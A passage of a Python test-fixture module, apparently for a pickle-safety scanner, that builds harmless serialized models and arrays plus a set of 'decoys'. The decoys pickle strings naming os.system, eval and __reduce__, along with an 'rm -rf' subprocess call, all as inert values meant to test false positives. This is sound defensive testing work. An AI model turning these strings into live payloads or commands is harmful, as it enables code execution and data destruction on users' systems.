
    sd = OrderedDict((f"layers.{i}.weight", torch.zeros(2, 2)) for i in range(2000))
    out = io.BytesIO()
    torch.save(sd, out)
    return out.getvalue()


def benign_pickle_tensor() -> bytes:
    import torch

    return pickle.dumps(torch.arange(6, dtype=torch.float32).reshape(2, 3))


def benign_pickle_parameter() -> bytes:
    import torch

    return pickle.dumps(torch.nn.Parameter(torch.ones(3)), protocol=4)


def benign_numpy_npy() -> bytes:
    import numpy as np

    out = io.BytesIO()
    np.save(out, np.arange(12, dtype=np.float32).reshape(3, 4))
    return out.getvalue()


def benign_numpy_npy_structured() -> bytes:
    import numpy as np

    out = io.BytesIO()
    np.save(out, np.zeros(3, dtype=[("a", "<f4"), ("b", "<U3")]))
    return out.getvalue()


def _numpy_pickle(protocol: int) -> Callable[[], bytes]:
    def build() -> bytes:
        import numpy as np

        return pickle.dumps(np.arange(6.0).reshape(2, 3), protocol=protocol)

    build.__name__ = f"benign_numpy_pickle_p{protocol}"
    return build


def benign_numpy_scalars_and_rng() -> bytes:
    import numpy as np

    return pickle.dumps(
        {
            "s": np.float32(1.5),
            "i": np.int64(3),
            "rs": np.random.RandomState(0),
            "g": np.random.default_rng(0),
        }
    )


def benign_set_p0() -> bytes:
    return pickle.dumps({1, 2, 3}, protocol=0)


def benign_frozenset_p1() -> bytes:
    return pickle.dumps(frozenset({"a", "b"}), protocol=1)


def benign_builtins_p2() -> bytes:
    return pickle.dumps(
        {"c": complex(1, 2), "s": slice(1, 5), "r": range(3), "b": bytearray(b"xy")}, protocol=2
    )


def benign_ordered_dict() -> bytes:
    return pickle.dumps(OrderedDict([("a", 1), ("b", [1, 2, 3])]))


def benign_plain_data() -> bytes:
    return pickle.dumps(
        {"name": "model", "layers": [1, 2, 3], "scale": 0.5, "tags": ("a", "b"), "none": None}
    )


def benign_string_p0() -> bytes:
    return pickle.dumps("hello world", protocol=0)


def _xy() -> tuple[Any, Any]:
    import numpy as np

    rng = np.random.RandomState(0)
    x = rng.rand(60, 4)
    return x, (x[:, 0] > 0.5).astype(int)


def benign_sklearn_logreg() -> bytes:
    from sklearn.linear_model import LogisticRegression

    return pickle.dumps(LogisticRegression().fit(*_xy()))


def benign_sklearn_random_forest() -> bytes:
    from sklearn.ensemble import RandomForestClassifier

    return pickle.dumps(RandomForestClassifier(n_estimators=3, random_state=0).fit(*_xy()))


def benign_sklearn_hist_gradient_boosting() -> bytes:
    from sklearn.ensemble import HistGradientBoostingClassifier

    return pickle.dumps(HistGradientBoostingClassifier(max_iter=3, random_state=0).fit(*_xy()))


def benign_sklearn_pipeline() -> bytes:
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    return pickle.dumps(Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())]).fit(*_xy()))


def benign_sklearn_column_transformer() -> bytes:
    import pandas as pd
    from sklearn.compose import ColumnTransformer
    from sklearn.preprocessing import OneHotEncoder, StandardScaler

    df = pd.DataFrame({"a": [1.0, 2.0, 3.0, 4.0] * 5, "b": ["x", "y", "x", "z"] * 5})
    ct = ColumnTransformer([("num", StandardScaler(), ["a"]), ("cat", OneHotEncoder(), ["b"])]).fit(df)
    return pickle.dumps(ct)


def benign_sklearn_knn() -> bytes:
    from sklearn.neighbors import KNeighborsClassifier

    return pickle.dumps(KNeighborsClassifier(algorithm="kd_tree").fit(*_xy()))


def benign_sklearn_grid_search() -> bytes:
    from sklearn.linear_model import LogisticRegression
    from sklearn.model_selection import GridSearchCV

    return pickle.dumps(GridSearchCV(LogisticRegression(), {"C": [0.1, 1.0]}, cv=2).fit(*_xy()))


def benign_sklearn_tfidf() -> bytes:
    from sklearn.feature_extraction.text import TfidfVectorizer

    return pickle.dumps(TfidfVectorizer().fit(["the cat sat", "dogs bark", "a cat and a dog"]))


def benign_sklearn_joblib() -> bytes:
    import joblib
    from sklearn.ensemble import RandomForestClassifier

    out = io.BytesIO()
    joblib.dump(RandomForestClassifier(n_estimators=2, random_state=0).fit(*_xy()), out)
    return out.getvalue()


def benign_xgboost() -> bytes:
    import xgboost  # type: ignore[import-untyped]

    return pickle.dumps(xgboost.XGBClassifier(n_estimators=2, max_depth=2).fit(*_xy()))


def benign_lightgbm() -> bytes:
    import lightgbm  # type: ignore[import-untyped]

    return pickle.dumps(lightgbm.LGBMClassifier(n_estimators=2, verbose=-1).fit(*_xy()))


def benign_joblib_arrays() -> bytes:
    import joblib
    import numpy as np

    out = io.BytesIO()
    joblib.dump(
        {
            "w": np.arange(1000, dtype=np.float32).reshape(10, 100),
            "f": np.asfortranarray(np.ones((7, 3))),
            "i": np.arange(5, dtype=np.int16),
            "s": np.zeros(3, dtype=[("a", "<f4"), ("b", "<U3")]),
            "e": np.zeros((0, 4)),
            "u": np.array(["ab", "cde"]),
        },
        out,
    )
    return out.getvalue()


def benign_joblib_object_array() -> bytes:
    import joblib
    import numpy as np

    out = io.BytesIO()
    joblib.dump({"a": np.arange(4.0), "o": np.array([1, "x", None], dtype=object), "b": np.ones(2)}, out)
    return out.getvalue()


def benign_joblib_protocol2() -> bytes:
    import joblib
    import numpy as np

    out = io.BytesIO()
    joblib.dump([np.arange(9.0), np.ones(4, dtype=np.int8)], out, protocol=2)
    return out.getvalue()


def benign_dataframe() -> bytes:
    import pandas as pd

    return pickle.dumps(pd.DataFrame({"a": [1.0, 2.0], "b": ["x", "y"]}))


BENIGN: dict[str, Callable[[], bytes]] = {
    "torch_zip": benign_torch_zip,
    "torch_legacy": benign_torch_legacy,
    "torch_checkpoint_dict": benign_torch_checkpoint_dict,
    "torch_many_tensors": benign_torch_many_tensors,
    "pickle_tensor": benign_pickle_tensor,
    "pickle_parameter": benign_pickle_parameter,
    "numpy_npy": benign_numpy_npy,
    "numpy_npy_structured": benign_numpy_npy_structured,
    **{f"numpy_pickle_p{p}": _numpy_pickle(p) for p in range(6)},
    "numpy_scalars_and_rng": benign_numpy_scalars_and_rng,
    "set_p0": benign_set_p0,
    "frozenset_p1": benign_frozenset_p1,
    "builtins_p2": benign_builtins_p2,
    "ordered_dict": benign_ordered_dict,
    "plain_data": benign_plain_data,
    "string_p0": benign_string_p0,
    "sklearn_logreg": benign_sklearn_logreg,
    "sklearn_random_forest": benign_sklearn_random_forest,
    "sklearn_hist_gradient_boosting": benign_sklearn_hist_gradient_boosting,
    "sklearn_pipeline": benign_sklearn_pipeline,
    "sklearn_column_transformer": benign_sklearn_column_transformer,
    "sklearn_knn": benign_sklearn_knn,
    "sklearn_grid_search": benign_sklearn_grid_search,
    "sklearn_tfidf": benign_sklearn_tfidf,
    "sklearn_joblib": benign_sklearn_joblib,
    "xgboost": benign_xgboost,
    "lightgbm": benign_lightgbm,
    "joblib_arrays": benign_joblib_arrays,
    "joblib_object_array": benign_joblib_object_array,
    "joblib_protocol2": benign_joblib_protocol2,
    "pandas_dataframe": benign_dataframe,
}


# --- decoys: benign, but alarming to string matchers --------------------------------------------------


def decoy_dangerous_strings() -> bytes:
    return pickle.dumps(
        {
            "cmd": "os.system",
            "note": "subprocess.Popen(['rm', '-rf'])",
            "eval": "builtins.eval",
            "code": "__reduce__",
        }
    )


def decoy_dangerous_strings_p0() -> bytes:
    return pickle.dumps(["cos\nsystem\n", "posix system", b"\x8c\x02os\x8c\x06system\x93"], protocol=0)


def decoy_posix_path() -> bytes:
    return pickle.dumps({"checkpoint_dir": Path("/tmp/os.system/runs"), "eval_steps": 100})


def decoy_function_transformer() -> bytes:
    import numpy as np
    from sklearn.preprocessing import FunctionTransformer

    return pickle.dumps(FunctionTransformer(func=np.log1p).fit(np.ones((3, 2))))


def decoy_dunder_strings_as_values() -> bytes:
    return pickle.dumps(OrderedDict([("class", "__class__"), ("reduce", "__reduce__"), ("__doc", "x")]))


def decoy_mapping_subclasses() -> bytes:
    # SETITEMS into the result of a call (OrderedDict, defaultdict, Counter): what a pickler writes
    # for dict subclasses, the benign twin of SETITEMS into a list.
    import collections

    value = [collections.OrderedDict(a=1), collections.defaultdict(list, b=[1]), collections.Counter("ab")]
    return pickle.dumps(value, protocol=2)


DECOYS: dict[str, Callable[[], bytes]] = {
    "mapping_subclasses": decoy_mapping_subclasses,
    "dangerous_strings": decoy_dangerous_strings,
    "dangerous_strings_p0": decoy_dangerous_strings_p0,
    "posix_path": decoy_posix_path,
    "function_transformer": decoy_function_transformer,
    "dunder_strings_as_values": decoy_dunder_strings_as_values,
}


def kind_of(data: bytes) -> str:
    """What a sample file is: ``zip``, ``npy`` or ``pickle`` (joblib dumps and legacy torch are pickles)."""
    if data[:4] == b"PK\x03\x04":
        return "zip"
    if data[:6] == b"\x93NUMPY":
        return "npy"
    return "pickle"
